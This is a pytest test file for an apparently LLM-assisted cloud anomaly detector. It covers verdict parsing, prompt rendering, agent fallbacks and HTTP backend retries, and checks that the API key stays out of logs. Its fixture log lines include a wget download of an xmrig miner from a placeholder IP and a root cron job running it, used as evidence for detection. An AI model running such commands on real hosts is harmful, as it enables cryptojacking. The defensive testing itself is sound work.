from __future__ import annotations

import logging
import os

import httpx
import pytest

from cloudano.agents import (
    FALLBACK_TAG,
    AgentPrompt,
    AuthenticationError,
    BackendConfig,
    BackendError,
    BackendTimeoutError,
    GarbageBackend,
    HTTPBackend,
    MissingAPIKeyError,
    OracleBackend,
    ParseError,
    ScriptedBackend,
    TransportExhaustedError,
    decide,
    log_agent_assess,
    metrics_agent_detect,
)
from cloudano.agents.mocks import format_assessment, format_hypothesis
from cloudano.agents.parsing import parse_assessment, parse_hypothesis, parse_verdict, read_fields
from cloudano.agents.prompts import (
    read_findings,
    read_log_lines,
    read_metric_window,
    render_log_prompt,
    render_metrics_prompt,
)
from cloudano.agents.symbolic import symbolic_hypothesis
from cloudano.features import classify_pattern
from cloudano.model import AnomalyType, DetectionHypothesis, LogAssessment, PatternType, Possibility, Verdict

KEY_ENV = "CLOUDANO_TEST_KEY"
SECRET = "sk-test-do-not-print-0123456789"
PROMPT = AgentPrompt("system", "user", "verdict")
OK_BODY = {"choices": [{"message": {"content": "is_anomaly: false"}}]}


# -- parsing ------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "is_anomaly: true\nanomaly_type: mine\nexplanation: xmrig seen",
    "```\nis_anomaly: yes\nanomaly_type: Mine\n```",
    "**is_anomaly**: True\n**anomaly_type**: `mine`",
    "Is-Anomaly = y\nAnomaly Type: mine.",
])
def test_verdict_parsing_is_tolerant(text):
    v = parse_verdict(text)
    assert v.is_anomaly and v.anomaly_type is AnomalyType.MINE


@pytest.mark.parametrize("text", [
    "", "is_anomaly: maybe", "is_anomaly: true\nanomaly_type: bitcoin", "is_anomaly: true",
])
def test_bad_verdicts_raise(text):
    with pytest.raises(ParseError):
        parse_verdict(text)


def test_normal_verdict_drops_type():
    assert parse_verdict("is_anomaly: no\nanomaly_type: oom") == Verdict(False)


def test_anomaly_type_aliases():
    v = parse_verdict("is_anomaly: true\nanomaly_type: ICMP flood dos")
    assert v.anomaly_type is AnomalyType.ICMP_FLOOD_DOS


def test_read_fields_collects_bullets_and_continuations():
    fields = read_fields("evidence:\n- a\n* b\nrationale: first\nsecond")
    assert fields == {"evidence": ["a", "b"], "rationale": "first second"}


@pytest.mark.parametrize("text, findings", [
    ("anomaly_detected: yes\nfindings: cpu=Spike, memory=gradual increase",
     (("cpu", PatternType.SPIKE), ("memory", PatternType.GRADUAL_INCREASE))),
    ("anomaly_detected: yes\nfindings:\n- gpu: Spike", (("gpu", PatternType.SPIKE),)),
    ("anomaly_detected: no\nfindings: none", ()),
    ("anomaly_detected: no", ()),
])
def test_hypothesis_parsing(text, findings):
    assert parse_hypothesis(text).findings == findings


@pytest.mark.parametrize("text", [
    "anomaly_detected: yes\nfindings: none",
    "anomaly_detected: yes\nfindings: swap=Spike",
    "anomaly_detected: yes\nfindings: cpu=Wobble",
])
def test_bad_hypotheses_raise(text):
    with pytest.raises(ParseError):
        parse_hypothesis(text)


def test_hypothesis_rejects_metric_outside_window():
    with pytest.raises(ParseError):
        parse_hypothesis("anomaly_detected: yes\nfindings: gpu=Spike", ["cpu"])


def test_assessment_keeps_only_verbatim_evidence():
    lines = ["bash[10]: wget http://1.2.3.4/xmrig.tar.gz", "CRON[11]: (root) CMD (/tmp/xmrig)"]
    text = ("possibility: High\ncandidate_type: mine\nevidence:\n"
            "- [t+70s] bash[10]: wget http://1.2.3.4/xmrig.tar.gz\n- \"CMD (/tmp/xmrig)\"\n- invented line")
    a = parse_assessment(text, lines)
    assert a.possibility is Possibility.HIGH and a.candidate_type is AnomalyType.MINE
    assert a.evidence == tuple(lines)


def test_assessment_needs_known_possibility():
    with pytest.raises(ParseError):
        parse_assessment("possibility: certain", [])


# -- prompts ------------------------------------------------------------------

def test_prompts_keep_modalities_apart(make_case):
    case = make_case("mine_xmrig_cron")
    metrics_text = render_metrics_prompt(case.metrics).user_text
    for line in case.log_lines:
        assert line not in metrics_text
    h = symbolic_hypothesis(case.metrics)
    log_text = render_log_prompt(case.logs, h).user_text
    assert "metric cpu" not in log_text
    for m in case.metrics:
        assert ", ".join(repr(v) for v in m.values[:3]) not in log_text
    assert "- cpu: Spike" in log_text


def test_prompt_readers_recover_rendered_evidence(make_case):
    case = make_case("oom_heap_leak", "difficult")
    assert read_metric_window(render_metrics_prompt(case.metrics).user_text) == list(case.metrics)
    h = symbolic_hypothesis(case.metrics)
    text = render_log_prompt(case.logs, h).user_text
    assert read_log_lines(text) == list(case.logs)
    assert read_findings(text).findings == h.findings


# -- agents -------------------------------------------------------------------

def test_oracle_metrics_agent_matches_classifier(make_case, ruleset):
    case = make_case("mine_xmrig_cron")
    h = metrics_agent_detect(case.metrics, OracleBackend(ruleset))
    assert h.findings == (("cpu", PatternType.SPIKE),)


def test_oracle_log_agent_finds_mine_evidence(make_case, ruleset):
    case = make_case("mine_xmrig_cron")
    h = DetectionHypothesis(True, (("cpu", PatternType.SPIKE),))
    a = log_agent_assess(case.logs, h, OracleBackend(ruleset), ruleset)
    assert a.possibility is Possibility.HIGH and a.candidate_type is AnomalyType.MINE
    assert any("xmrig" in e for e in a.evidence)
    assert set(a.evidence) <= set(case.log_lines)


def test_oracle_log_agent_on_benign_logs(make_case, ruleset):
    case = make_case("dl_training_launch")
    h = DetectionHypothesis(True, (("gpu", PatternType.SPIKE),))
    a = log_agent_assess(case.logs, h, OracleBackend(ruleset), ruleset)
    assert a.possibility is not Possibility.HIGH and a.candidate_type is None


def test_malformed_twice_falls_back_to_classifier(make_case):
    case = make_case("oom_heap_leak")
    backend = GarbageBackend()
    h = metrics_agent_detect(case.metrics, backend)
    expected = tuple((m.name, classify_pattern(m)) for m in case.metrics if classify_pattern(m) is not None)
    assert h.findings == expected
    assert h.raw_rationale.startswith(FALLBACK_TAG)
    assert backend.calls == 2


def test_repair_reask_recovers(make_case):
    case = make_case("mine_xmrig_cron")
    backend = ScriptedBackend({"hypothesis": ["garbled", "anomaly_detected: yes\nfindings: cpu=Spike"]})
    h = metrics_agent_detect(case.metrics, backend)
    assert h.findings == (("cpu", PatternType.SPIKE),) and FALLBACK_TAG not in h.raw_rationale
    assert backend.calls == 2


def test_no_backend_is_pure_symbolic(make_case, ruleset):
    case = make_case("mine_xmrig_cron")
    h = metrics_agent_detect(case.metrics, None)
    a = log_agent_assess(case.logs, h, None, ruleset)
    v = decide(h, a, None)
    assert v == Verdict(True, AnomalyType.MINE, v.explanation)
    assert FALLBACK_TAG not in v.explanation


def test_empty_logs_give_low_without_a_call(ruleset):
    backend = GarbageBackend()
    a = log_agent_assess([], DetectionHypothesis(True, (("cpu", PatternType.SPIKE),)), backend, ruleset)
    assert a.possibility is Possibility.LOW and backend.calls == 0


def test_no_findings_skips_log_and_decision_calls(make_case, ruleset):
    from cloudano.agents import DetectionPipeline
    backend = OracleBackend(ruleset)
    fv = DetectionPipeline(backend, ruleset).detect(make_case("routine_quiet"))
    assert not fv.is_anomaly
    assert backend.calls_by_schema["assessment"] == 0
    assert backend.calls_by_schema["verdict"] == 0
    assert backend.calls_by_schema["hypothesis"] == 1


def test_decide_without_findings_is_normal():
    assert not decide(DetectionHypothesis(False), LogAssessment(Possibility.HIGH), GarbageBackend()).is_anomaly


def test_empty_window_is_rejected():
    with pytest.raises(ValueError):
        metrics_agent_detect([], None)


def test_mock_formatters_round_trip():
    h = DetectionHypothesis(True, (("cpu", PatternType.SPIKE),), "why")
    assert parse_hypothesis(format_hypothesis(h)) == h
    a = LogAssessment(Possibility.HIGH, ("line one",), AnomalyType.MINE, "r")
    assert parse_assessment(format_assessment(a), ["line one"]) == a


def test_backend_errors_propagate(make_case):
    class Broken:
        def complete(self, prompt):
            raise TransportExhaustedError("down", 3)
    with pytest.raises(BackendError):
        metrics_agent_detect(make_case("mine_xmrig_cron").metrics, Broken())


# -- HTTP backend ---------------------------------------------------------------

def _backend(monkeypatch, handler, **overrides):
    monkeypatch.setenv(KEY_ENV, SECRET)
    sleeps = []
    config = BackendConfig("http://test.invalid/v1/chat/completions", "m", KEY_ENV,
                           **{"max_attempts": 3, **overrides})
    client = httpx.Client(transport=httpx.MockTransport(handler))
    return HTTPBackend(config, client=client, sleep=sleeps.append), sleeps


def test_http_success_and_payload(monkeypatch):
    seen = {}

    def handler(request):
        seen["auth"] = request.headers["authorization"]
        seen["body"] = request.read()
        return httpx.Response(200, json=OK_BODY)

    backend, sleeps = _backend(monkeypatch, handler, temperature=0.0)
    assert backend.complete(PROMPT) == "is_anomaly: false"
    assert seen["auth"] == f"Bearer {SECRET}"
    assert b'"temperature": 0.0' in seen["body"] or b'"temperature":0.0' in seen["body"]
    assert sleeps == []


@pytest.mark.parametrize("status", [500, 503, 429])
def test_http_retries_then_exhausts(monkeypatch, status, caplog):
    calls = []

    def handler(request):
        calls.append(1)
        return httpx.Response(status)

    backend, sleeps = _backend(monkeypatch, handler)
    with caplog.at_level(logging.DEBUG), pytest.raises(TransportExhaustedError) as exc:
        backend.complete(PROMPT)
    assert exc.value.attempts == 3 == len(calls)
    assert sleeps == [1.0, 2.0]
    assert SECRET not in caplog.text and SECRET not in str(exc.value)


def test_http_recovers_after_transient_failure(monkeypatch):
    replies = iter([httpx.Response(502), httpx.Response(200, json=OK_BODY)])
    backend, sleeps = _backend(monkeypatch, lambda request: next(replies))
    assert backend.complete(PROMPT) == "is_anomaly: false"
    assert sleeps == [1.0]


def test_http_timeout(monkeypatch):
    def handler(request):
        raise httpx.ReadTimeout("slow", request=request)

    backend, _ = _backend(monkeypatch, handler, max_attempts=2)
    with pytest.raises(BackendTimeoutError) as exc:
        backend.complete(PROMPT)
    assert exc.value.attempts == 2


@pytest.mark.parametrize("status", [401, 403])
def test_http_auth_failure_is_not_retried(monkeypatch, status, caplog):
    calls = []

    def handler(request):
        calls.append(1)
        return httpx.Response(status, text="bad key")

    backend, _ = _backend(monkeypatch, handler)
    with caplog.at_level(logging.DEBUG), pytest.raises(AuthenticationError) as exc:
        backend.complete(PROMPT)
    assert len(calls) == 1
    assert KEY_ENV in str(exc.value) and SECRET not in str(exc.value) and SECRET not in caplog.text


def test_http_bad_shape(monkeypatch):
    backend, _ = _backend(monkeypatch, lambda request: httpx.Response(200, json={"nope": 1}))
    with pytest.raises(BackendError):
        backend.complete(PROMPT)


def test_missing_key(monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    with pytest.raises(MissingAPIKeyError) as exc:
        HTTPBackend(BackendConfig("http://x", "m", KEY_ENV))
    assert str(exc.value) == f"API key environment variable {KEY_ENV} is not set"


@pytest.mark.parametrize("kwargs", [{"max_attempts": 0}, {"timeout_seconds": 0}, {"temperature": -1.0}])
def test_backend_config_validation(kwargs):
    with pytest.raises(ValueError):
        BackendConfig("http://x", "m", **kwargs)


@pytest.mark.live
@pytest.mark.skipif(not (os.environ.get("CLOUDANO_LIVE_ENDPOINT") and os.environ.get("CLOUDANO_API_KEY")),
                    reason="set CLOUDANO_LIVE_ENDPOINT, CLOUDANO_LIVE_MODEL and CLOUDANO_API_KEY to run")
def test_live_backend_answers_a_verdict(make_case, ruleset):
    config = BackendConfig(os.environ["CLOUDANO_LIVE_ENDPOINT"], os.environ.get("CLOUDANO_LIVE_MODEL", "default"))
    case = make_case("mine_xmrig_cron")
    h = metrics_agent_detect(case.metrics, HTTPBackend(config))
    assert isinstance(h, DetectionHypothesis)
